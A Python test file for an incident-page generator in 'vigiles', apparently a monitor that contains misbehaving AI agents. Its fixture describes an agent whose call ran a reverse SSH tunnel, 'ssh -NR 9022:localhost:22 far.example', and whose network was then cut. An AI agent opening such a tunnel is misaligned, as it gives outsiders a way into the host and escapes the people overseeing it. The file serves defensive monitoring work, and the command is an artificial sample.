"""A person who was not there reads the page's text and nothing else. Five questions, and the answers it must give."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from vigiles.incidents.page.facts import Facts
from vigiles.incidents.page.page import page
from vigiles.incidents.page.summary import URGENCY, marks, sentence, summary, when, who
from vigiles.model.finding import SEVERITIES

QUESTIONS: dict[str, list[str]] = {
    "Who did it?": ["The agent “agent-a”", "run run-1", "episode ep-1", "turn 3", "call 2", "task fix", "model m-7"],
    "What did it do?": ["ssh asked to forward", "call 2 asked for:", "bash -c 'ssh -NR 9022:localhost:22 far.example"],
    "When?": [
        "It occurred at 2023-11-14 22:13:20.085 UTC.",
        "Vigiles became aware at 2023-11-14 22:13:20.090 UTC, 5 ms after it occurred.",
        "The causing call was established at 2023-11-14 22:13:20.090 UTC",
        "It was contained at 2023-11-14 22:13:20.110 UTC, 25 ms after it occurred.",
    ],
    "How was it stopped?": [
        "It was stopped 25 ms after it occurred.",
        "Vigiles struck at call 2: its network was cut, 12 ms after the finding.",
    ],
    "What to do next?": [
        "Look at the far host: who runs it, and does it hold a listener that leads back here?",
        "Hold the model version back",
        "Keep the proof: vigiles ledger verify",
    ],
}


@pytest.mark.parametrize("question", QUESTIONS)
def test_the_page_alone_answers(question: str, facts: Facts, reading: Any) -> None:
    text = reading(page(facts)).text("summary")
    questions = [*QUESTIONS, "severity"]
    answer = text.partition(question)[2].partition(questions[questions.index(question) + 1])[0]
    for part in QUESTIONS[question]:
        assert part in answer, answer


def test_one_sentence_says_what_happened(facts: Facts) -> None:
    assert sentence(facts).startswith("On 2023-11-14 at 22:13:20 UTC, the agent “agent-a”, call 2: ssh asked to forward")
    assert sentence(facts).endswith("; it was stopped after 25 ms.")


def test_what_was_refused_is_not_called_stopped(facts: Facts) -> None:
    blocked = [(index, msgspec.structs.replace(one, blocked=True)) for index, one in facts.timeline.findings]
    refused = msgspec.structs.replace(facts, timeline=msgspec.structs.replace(facts.timeline, findings=blocked))
    assert sentence(refused).endswith("; it was refused before it had an effect.")


def test_what_stands_in_boxes_is_words(facts: Facts, reading: Any) -> None:
    assert reading(str(marks(facts))).text() == "severity HIGH state open CONTAINED"
    live = msgspec.structs.replace(facts.timeline.incident, contained=False)
    loose = msgspec.structs.replace(facts, timeline=msgspec.structs.replace(facts.timeline, incident=live), drill="rome")
    assert "NOT CONTAINED played in drill rome" in reading(str(marks(loose))).text()


def test_what_is_not_known_is_said(facts: Facts) -> None:
    bare = msgspec.structs.replace(
        facts.timeline.incident, calls=[], established_us=None, contained=False, contained_us=None, coordinates=None
    )
    timeline = msgspec.structs.replace(facts.timeline, incident=bare, where=None, calls=[], opened=None, ended=None)
    empty = msgspec.structs.replace(facts, timeline=timeline)
    assert "An unknown principal" in sentence(empty).replace("an unknown", "An unknown")
    assert "about the installation itself" in who(empty)
    assert "The causing call was not established." in when(empty)
    assert "It was not contained." in when(empty)


def test_state_note_and_neighbours(facts: Facts, reading: Any) -> None:
    quiet = msgspec.structs.replace(
        facts.timeline.incident, state="suppressed", note="known <b>", expires_us=1_700_000_100_000_000
    )
    told = msgspec.structs.replace(facts, timeline=msgspec.structs.replace(facts.timeline, incident=quiet), others=["inc-b"])
    text = reading(str(summary(told))).text()
    assert "suppressed, version 3, until 2023-11-14 22:15:00.000 UTC; note: known <b>" in text
    assert "also inc-b" in text


def test_every_severity_says_how_urgent_it_is() -> None:
    assert set(URGENCY) == set(SEVERITIES)
